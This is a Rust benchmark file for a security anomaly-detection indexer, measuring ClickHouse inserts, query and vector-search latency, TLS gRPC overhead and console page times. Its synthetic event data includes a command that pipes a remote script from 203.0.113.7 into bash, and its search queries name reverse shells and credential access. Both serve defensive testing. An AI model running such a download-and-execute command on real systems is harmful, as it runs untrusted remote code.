//! Indexer benchmarks against the real ClickHouse of the local stack
//! (`scripts/stack up --infra`) and a local LanceDB:
//!
//! 1. sustained insert rows/s of `security_events` rows (the sink's insert);
//! 2. p50/p99 of a typical filtered query (an org's alerts of the last hour,
//!    first page) over 10M rows;
//! 3. p50/p99 of a search over 1M behaviour vectors (vector search alone,
//!    and the whole Search: vectors, then the events from ClickHouse);
//! 4. the cost of the trust boundary: the same Search RPC through the real
//!    gRPC server, plaintext without tokens against TLS with a bearer token
//!    (certificates made with openssl, as `scripts/stack` makes them),
//!    calls interleaved so both see the same machine;
//! 5. p50/p99 of each web console page as served over those rows.
//!
//! ```text
//! OUTLIER_BENCH_ROWS=10000000 OUTLIER_BENCH_VECTORS=1000000 \
//!   cargo bench -p outlier-indexer --bench query
//! ```
//!
//! Prints a Markdown table. With `OUTLIER_BENCH_SLOW=1`, each console
//! request over 300 ms is also logged with its time.

use std::time::{Duration, Instant};

use outlier_common::featurize::{DIM, Embedding, embed_text};
use outlier_common::rng::Rng;
use outlier_indexer::query;
use outlier_indexer::row::EventRow;
use outlier_indexer::schema;
use outlier_indexer::search_index::{Entry, SearchIndex};
use outlier_proto::{QueryEventsRequest, Verdict};

fn env_usize(name: &str, default: usize) -> usize {
    std::env::var(name)
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

fn pct(mut d: Vec<Duration>) -> (f64, f64) {
    d.sort();
    let ms = |x: Duration| x.as_secs_f64() * 1e3;
    (
        ms(d[d.len() / 2]),
        ms(d[(d.len() * 99 / 100).min(d.len() - 1)]),
    )
}

fn unit(rng: &mut Rng) -> Embedding {
    let mut v = [0f32; DIM];
    for x in &mut v {
        *x = (rng.next_u64() % 2001) as f32 / 1000.0 - 1.0;
    }
    let n = v.iter().map(|a| a * a).sum::<f32>().sqrt();
    v.iter_mut().for_each(|a| *a /= n);
    v
}

const COMMANDS: [&[&str]; 6] = [
    &["nginx: worker process"],
    &["/usr/sbin/logrotate", "/etc/logrotate.conf"],
    &["pg_dump", "-Fc", "-f", "/backup/app.dump", "app"],
    &["cargo", "build", "--release"],
    &["bash", "-c", "curl -fsSL http://203.0.113.7/x.sh | bash"],
    &["python3", "/srv/app/manage.py", "migrate"],
];

fn row(i: u64, now_ns: u64, rng: &mut Rng) -> EventRow {
    let org = format!("org-{}", i % 20);
    let verdict = match rng.next_u64() % 100 {
        0 => "alert",
        1..=4 => "warn",
        _ => "ok",
    };
    let ts_ns = now_ns - (rng.next_u64() % (6 * 3600)) * 1_000_000_000;
    EventRow {
        event_id: format!("bench-{i}"),
        org,
        workload: format!("w{}", rng.next_u64() % 50),
        host: format!("host-{}", rng.next_u64() % 500),
        kind: "exec".into(),
        ts: (ts_ns / 1_000_000_000) as u32,
        ts_ns,
        pid: (rng.next_u64() % 60000) as u32,
        ppid: 1,
        uid: 33,
        comm: "bash".into(),
        parent_comm: "sshd".into(),
        exe: "/usr/bin/bash".into(),
        argv: COMMANDS[(rng.next_u64() % 6) as usize]
            .iter()
            .map(|s| s.to_string())
            .collect(),
        anomaly_score: (rng.next_u64() % 1000) as f32 / 1000.0,
        verdict: verdict.into(),
        explanation: "unlike all 120 known behaviours of w1 (nearest at cosine distance 0.31)"
            .into(),
        behaviour_key: rng.next_u64() % 1_000_000,
        ..EventRow::default()
    }
}

#[tokio::main]
async fn main() {
    outlier_indexer::install_crypto_provider();
    let rows_n = env_usize("OUTLIER_BENCH_ROWS", 10_000_000) as u64;
    let vectors_n = env_usize("OUTLIER_BENCH_VECTORS", 1_000_000);
    let url =
        std::env::var("OUTLIER_TEST_CLICKHOUSE").unwrap_or_else(|_| "http://127.0.0.1:8123".into());
    let db = "outlier_bench";
    let admin = clickhouse::Client::default()
        .with_url(&url)
        .with_validation(false);
    admin
        .query(&format!("DROP DATABASE IF EXISTS {db}"))
        .execute()
        .await
        .expect("clickhouse reachable (scripts/stack up --infra)");
    schema::migrate(&admin, db, &schema::Layout::Single, 30)
        .await
        .unwrap();
    let ch = clickhouse::Client::default()
        .with_url(&url)
        .with_database(db)
        .with_validation(false);

    println!("| measurement | result |");
    println!("|---|---|");

    // 1. Inserts, in the sink's batch size.
    let now_ns = outlier_common::now_ns();
    let mut rng = Rng::new(0x9E37_79B9_7F4A_7C15);
    let batch = 50_000u64;
    let t = Instant::now();
    let mut i = 0;
    // org-1's events, for the search index's examples below.
    let mut org1: Vec<(u64, String)> = Vec::new();
    while i < rows_n {
        let rows: Vec<EventRow> = (i..(i + batch).min(rows_n))
            .map(|j| row(j, now_ns, &mut rng))
            .collect();
        org1.extend(
            rows.iter()
                .filter(|r| r.org == "org-1")
                .map(|r| (r.ts_ns, r.event_id.clone())),
        );
        let mut insert = ch.insert::<EventRow>(schema::TABLE).await.unwrap();
        for r in &rows {
            insert.write(r).await.unwrap();
        }
        insert.end().await.unwrap();
        i += batch;
    }
    let secs = t.elapsed().as_secs_f64();
    println!(
        "| insert, {rows_n} rows in batches of {batch} | {:.0} rows/s ({secs:.1} s) |",
        rows_n as f64 / secs
    );
    let _ = admin
        .query(&format!("OPTIMIZE TABLE {db}.{} FINAL", schema::TABLE))
        .execute()
        .await;

    // 2. A typical filtered query: an org's alerts of the last hour.
    let mut d = Vec::new();
    for k in 0..100 {
        let req = QueryEventsRequest {
            org: format!("org-{}", k % 20),
            since_ns: now_ns - 3_600_000_000_000,
            verdicts: vec![Verdict::Alert as i32],
            page_size: 50,
            ..QueryEventsRequest::default()
        };
        let t = Instant::now();
        let (rows, _) = query::query_events(&ch, &req).await.unwrap();
        d.push(t.elapsed());
        assert!(!rows.is_empty());
    }
    let (p50, p99) = pct(d);
    println!(
        "| QueryEvents (org, last hour, verdict=alert, page 50) over {rows_n} rows | p50 {p50:.1} ms, p99 {p99:.1} ms |"
    );

    // GetEvent: one event by id (no time given).
    let mut d = Vec::new();
    for k in 0..100usize {
        let (_, id) = &org1[(k * 7919) % org1.len()];
        let t = Instant::now();
        let got = query::get_event(&ch, "org-1", id).await.unwrap();
        d.push(t.elapsed());
        assert_eq!(got.map(|r| r.event_id).as_deref(), Some(id.as_str()));
    }
    let (p50, p99) = pct(d);
    println!("| GetEvent (org, id) over {rows_n} rows | p50 {p50:.1} ms, p99 {p99:.1} ms |");

    // 3. Search over 1M behaviour vectors of one org.
    let dir = tempfile::tempdir().unwrap();
    let idx = std::sync::Arc::new(
        SearchIndex::open(dir.path().to_str().unwrap())
            .await
            .unwrap(),
    );
    let mut rng = Rng::new(42);
    let t = Instant::now();
    for chunk in (0..vectors_n).collect::<Vec<_>>().chunks(100_000) {
        let entries: Vec<Entry> = chunk
            .iter()
            .map(|&k| {
                let (ts_ns, id) = &org1[k % org1.len()];
                Entry {
                    workload: format!("w{}", k % 50),
                    behaviour_key: k as u64,
                    vector: unit(&mut rng),
                    last_seen_ns: *ts_ns,
                    event_id: id.clone(),
                }
            })
            .collect();
        idx.upsert("org-1", &entries).await.unwrap();
    }
    let load = t.elapsed().as_secs_f64();
    let t = Instant::now();
    idx.maintain(1).await.unwrap();
    println!(
        "| search index: {vectors_n} vectors written, IVF-SQ trained | {load:.1} s + {:.1} s |",
        t.elapsed().as_secs_f64()
    );
    let queries = [
        "reverse shell bash outbound connection",
        "download and execute",
        "credential access shadow",
        "persistence cron",
        "privilege escalation sudo",
    ];
    let (mut dv, mut df) = (Vec::new(), Vec::new());
    for k in 0..100 {
        let q = embed_text(queries[k % queries.len()]);
        let t = Instant::now();
        let hits = idx.search("org-1", &q, &[], 20).await.unwrap();
        dv.push(t.elapsed());
        let events = query::events_of_hits(&ch, "org-1", &hits, 0).await.unwrap();
        assert_eq!(events.len(), hits.len(), "every hit's event is found");
        df.push(t.elapsed());
    }
    let (p50, p99) = pct(dv);
    println!("| vector search, top 20 of {vectors_n} | p50 {p50:.1} ms, p99 {p99:.1} ms |");
    let (p50, p99) = pct(df);
    println!(
        "| Search (vectors + events from ClickHouse, {rows_n} rows) | p50 {p50:.1} ms, p99 {p99:.1} ms |"
    );

    // 4. The Search RPC over the network: plaintext vs TLS + bearer token.
    grpc_cost(&ch, idx.clone(), &queries).await;

    // 5. The web console's pages.
    console_pages(&ch, idx.clone(), &org1, rows_n).await;

    let _ = admin
        .query(&format!("DROP DATABASE IF EXISTS {db}"))
        .execute()
        .await;
}

fn openssl(dir: &std::path::Path, args: &str) {
    let out = std::process::Command::new("openssl")
        .args(args.split(' '))
        .current_dir(dir)
        .output()
        .expect("openssl runs");
    assert!(
        out.status.success(),
        "openssl {args}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// The query services over `ch` and `idx`, as the indexer makes them (the
/// stack's Kafka for the alert hub and feedback).
fn bench_services(
    ch: &clickhouse::Client,
    idx: &std::sync::Arc<SearchIndex>,
    auth: outlier_indexer::auth::Authorizer,
    shutdown: &tokio_util::sync::CancellationToken,
) -> outlier_indexer::grpc::Services {
    use outlier_indexer::grpc;
    let kafka = outlier_common::kafka::KafkaConfig::default();
    grpc::Services {
        ch: ch.clone(),
        search: idx.clone(),
        kafka: kafka.clone(),
        shutdown: shutdown.clone(),
        streams: std::sync::Arc::new(tokio::sync::Semaphore::new(grpc::MAX_INCIDENT_STREAMS)),
        alerts: outlier_indexer::alert_hub::AlertHub::start(kafka.clone(), shutdown.clone()),
        auth: std::sync::Arc::new(auth),
        producer: kafka.producer_config("bench").create().unwrap(),
        suppressions: Default::default(),
        signatures: Default::default(),
    }
}

/// p50/p99 of each console page as served (HTTP on loopback, the services
/// in process) over the bench's rows, with 10,000 incidents of org-1 of
/// five events each: the overview (24 hours of counts), the incident list,
/// an incident, an event (process tree, timeline, look-alikes) and a
/// search. The first 5 requests of each page warm it; 200 are timed.
async fn console_pages(
    ch: &clickhouse::Client,
    idx: std::sync::Arc<SearchIndex>,
    org1: &[(u64, String)],
    rows_n: u64,
) {
    use outlier_indexer::auth::Authorizer;
    use outlier_indexer::incidents::IncidentRow;

    let n_incidents = 10_000usize;
    let mut insert = ch.insert::<IncidentRow>("incidents").await.unwrap();
    for k in 0..n_incidents {
        let events: Vec<&(u64, String)> = (0..5).map(|j| &org1[(k * 5 + j) % org1.len()]).collect();
        let first = events.iter().map(|e| e.0).min().unwrap();
        let last = events.iter().map(|e| e.0).max().unwrap();
        insert
            .write(&IncidentRow {
                org: "org-1".into(),
                incident_id: format!("inc-{k}"),
                host: format!("host-{}", k % 500),
                workloads: vec![format!("w{}", k % 50)],
                ts: (first / 1_000_000_000) as u32,
                first_ns: first,
                last_ns: last,
                updated_ns: last,
                event_count: 5,
                alert_count: 1,
                verdict: 3,
                max_score: 0.9,
                tactics: vec!["execution".into()],
                techniques: vec!["T1059.004".into()],
                summary: format!("bash spawned by sshd on host-{}", k % 500),
                event_ids: events.iter().map(|e| e.1.clone()).collect(),
                event_ts_ns: events.iter().map(|e| e.0).collect(),
                root_pid: 100,
                root_program: "bash".into(),
                ..IncidentRow::default()
            })
            .await
            .unwrap();
    }
    insert.end().await.unwrap();

    let shutdown = tokio_util::sync::CancellationToken::new();
    let services = bench_services(ch, &idx, Authorizer::insecure(), &shutdown);
    let addr = outlier_indexer::console::serve(
        "127.0.0.1:0".parse().unwrap(),
        services,
        &Default::default(),
        None,
        shutdown.clone(),
    )
    .await
    .unwrap();
    let http = reqwest::Client::new();
    // Pages are timed on tables at rest: the merges that 10M rows inserted
    // in half a minute set off (minutes of both cores here) are the bulk
    // load's, not what a page costs on a table filled over days.
    let t = Instant::now();
    loop {
        let merging: u64 = ch
            .query("SELECT count() FROM system.merges WHERE database = currentDatabase()")
            .fetch_one()
            .await
            .unwrap();
        if merging == 0 || t.elapsed() > Duration::from_secs(600) {
            break;
        }
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    println!(
        "| waited for ClickHouse's merges of the bulk load | {:.0} s |",
        t.elapsed().as_secs_f64()
    );
    // 205 requests of each page, on different incidents, events and words.
    let rounds = 0..205usize;
    let pages: Vec<(&str, Vec<String>)> = vec![
        (
            "overview",
            rounds.clone().map(|_| "/o/org-1".into()).collect(),
        ),
        (
            "baselines",
            rounds
                .clone()
                .map(|_| "/o/org-1/baselines".into())
                .collect(),
        ),
        (
            "incidents",
            rounds
                .clone()
                .map(|_| "/o/org-1/incidents".into())
                .collect(),
        ),
        (
            "incident",
            rounds
                .clone()
                .map(|k| format!("/o/org-1/incidents/inc-{}", (k * 7919) % n_incidents))
                .collect(),
        ),
        (
            "event",
            rounds
                .clone()
                .map(|k| format!("/o/org-1/events/{}", org1[(k * 7919) % org1.len()].1))
                .collect(),
        ),
        (
            "search",
            rounds
                .map(|k| {
                    let q = [
                        "reverse+shell+bash",
                        "download+and+execute",
                        "persistence+cron",
                    ];
                    format!("/o/org-1/search?q={}", q[k % 3])
                })
                .collect(),
        ),
    ];
    for (name, paths) in &pages {
        let mut d = Vec::new();
        for (k, p) in paths.iter().enumerate() {
            let t = Instant::now();
            let r = http.get(format!("http://{addr}{p}")).send().await.unwrap();
            let status = r.status();
            let body = r.text().await.unwrap();
            let took = t.elapsed();
            assert!(status.is_success(), "{p}: {status}: {body}");
            if took.as_millis() > 300 && std::env::var_os("OUTLIER_BENCH_SLOW").is_some() {
                eprintln!(
                    "slow {name} {p}: {took:?} at {:?}",
                    std::time::SystemTime::now()
                );
            }
            if k >= 5 {
                d.push(took);
            }
        }
        let slow = d.iter().filter(|x| x.as_millis() > 300).count();
        let n = d.len();
        let (p50, p99) = pct(d);
        println!(
            "| console page `{name}` over {rows_n} rows | p50 {p50:.1} ms, p99 {p99:.1} ms, {slow} of {n} over 300 ms |"
        );
    }
    shutdown.cancel();
}

/// p50/p99 of the Search RPC (top 20, org-1) through two servers of the
/// same services: one plaintext without tokens (`auth.insecure`), one TLS
/// with a bearer token checked on every call. New connections are not
/// measured: each client keeps one channel, as the CLI and SDKs do.
async fn grpc_cost(ch: &clickhouse::Client, idx: std::sync::Arc<SearchIndex>, queries: &[&str]) {
    use outlier_indexer::auth::{Authorizer, token_sha256};
    use outlier_indexer::grpc;
    use outlier_proto::search_client::SearchClient;
    use outlier_proto::{SearchRequest, search_request};
    use tonic::transport::{Certificate, Channel, ClientTlsConfig, Identity};

    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    openssl(
        d,
        "req -x509 -newkey rsa:2048 -nodes -days 1 -subj /CN=bench-CA -keyout ca.key -out ca.pem",
    );
    openssl(
        d,
        "req -newkey rsa:2048 -nodes -subj /CN=localhost -keyout server.key -out server.csr",
    );
    std::fs::write(
        d.join("server.ext"),
        "subjectAltName=IP:127.0.0.1\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n",
    )
    .unwrap();
    openssl(
        d,
        "x509 -req -in server.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 1 -extfile server.ext -out server.pem",
    );
    let read = |f: &str| std::fs::read(d.join(f)).unwrap();

    let shutdown = tokio_util::sync::CancellationToken::new();
    let services = |auth: Authorizer| bench_services(ch, &idx, auth, &shutdown);
    let loopback = "127.0.0.1:0".parse().unwrap();
    let plain = grpc::serve(
        loopback,
        services(Authorizer::insecure()),
        None,
        shutdown.clone(),
    )
    .await
    .unwrap();
    let tokens = format!(
        "[[identity]]\nname = \"bench\"\ntoken_sha256 = \"{}\"\norgs = [\"org-1\"]\n",
        token_sha256("bench-token")
    );
    let secure = grpc::serve(
        loopback,
        services(Authorizer::from_toml(&tokens).unwrap()),
        Some(Identity::from_pem(read("server.pem"), read("server.key"))),
        shutdown.clone(),
    )
    .await
    .unwrap();
    let mut plain_client = SearchClient::new(
        Channel::from_shared(format!("http://{plain}"))
            .unwrap()
            .connect()
            .await
            .unwrap(),
    );
    let mut tls_client = SearchClient::new(
        Channel::from_shared(format!("https://{secure}"))
            .unwrap()
            .tls_config(
                ClientTlsConfig::new().ca_certificate(Certificate::from_pem(read("ca.pem"))),
            )
            .unwrap()
            .connect()
            .await
            .unwrap(),
    );
    let request = |k: usize| {
        tonic::Request::new(SearchRequest {
            org: "org-1".into(),
            query: Some(search_request::Query::Text(
                queries[k % queries.len()].into(),
            )),
            limit: 20,
            ..SearchRequest::default()
        })
    };
    let (mut dp, mut dt) = (Vec::new(), Vec::new());
    for k in 0..220 {
        let t = Instant::now();
        let hits = plain_client
            .search(request(k))
            .await
            .unwrap()
            .into_inner()
            .hits;
        let plain_d = t.elapsed();
        let mut r = request(k);
        r.metadata_mut()
            .insert("authorization", "Bearer bench-token".parse().unwrap());
        let t = Instant::now();
        let tls_hits = tls_client.search(r).await.unwrap().into_inner().hits;
        let tls_d = t.elapsed();
        assert_eq!(hits.len(), tls_hits.len(), "both servers answer the same");
        assert!(!hits.is_empty());
        // The first 20 rounds warm both (connections, caches).
        if k >= 20 {
            dp.push(plain_d);
            dt.push(tls_d);
        }
    }
    // Without the token the TLS server refuses: the cost measured is the check's.
    let e = tls_client.search(request(0)).await.unwrap_err();
    assert_eq!(e.code(), tonic::Code::Unauthenticated);
    let (p50, p99) = pct(dp);
    println!("| Search RPC, plaintext, no token | p50 {p50:.1} ms, p99 {p99:.1} ms |");
    let (t50, t99) = pct(dt);
    println!(
        "| Search RPC, TLS + bearer token | p50 {t50:.1} ms, p99 {t99:.1} ms ({:.2}× / {:.2}×) |",
        t50 / p50,
        t99 / p99
    );
    shutdown.cancel();
}
